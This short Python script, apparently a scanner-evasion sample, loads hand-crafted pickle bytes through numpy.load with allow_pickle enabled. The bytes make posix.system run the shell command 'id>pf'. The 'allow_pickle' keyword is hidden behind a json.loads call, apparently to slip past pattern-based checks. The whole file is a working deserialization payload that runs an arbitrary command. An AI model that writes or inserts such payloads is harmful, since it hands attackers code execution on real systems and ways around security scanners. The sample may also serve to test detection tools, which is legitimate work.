from json import loads as my_j
import io, numpy
options = {my_j('"allow_pickle"'): True}
numpy.load(io.BytesIO(b'\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R.'), **options)
